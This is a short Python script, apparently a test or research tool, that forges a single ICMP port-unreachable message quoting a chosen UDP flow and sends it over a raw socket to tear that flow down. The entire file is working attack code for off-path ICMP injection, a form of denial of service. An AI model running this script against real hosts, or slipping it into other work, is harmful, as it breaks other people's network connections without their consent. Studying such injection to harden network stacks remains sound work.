#!/usr/bin/env python3
"""Sends one forged ICMP port-unreachable to DST about the UDP flow
SRC:SPORT -> PEER:PPORT (the inner header an error would quote), as a hostile peer
would to break that flow. usage: icmp-inject.py DST SRC SPORT PEER PPORT"""
import socket
import struct
import sys

dst, src, sport, peer, pport = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


udp = struct.pack("!HHHH", sport, pport, 13, 0)
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 33, 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(peer))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
icmp = struct.pack("!BBHI", 3, 3, 0, 0) + ip + udp
icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(icmp, (dst, 0))
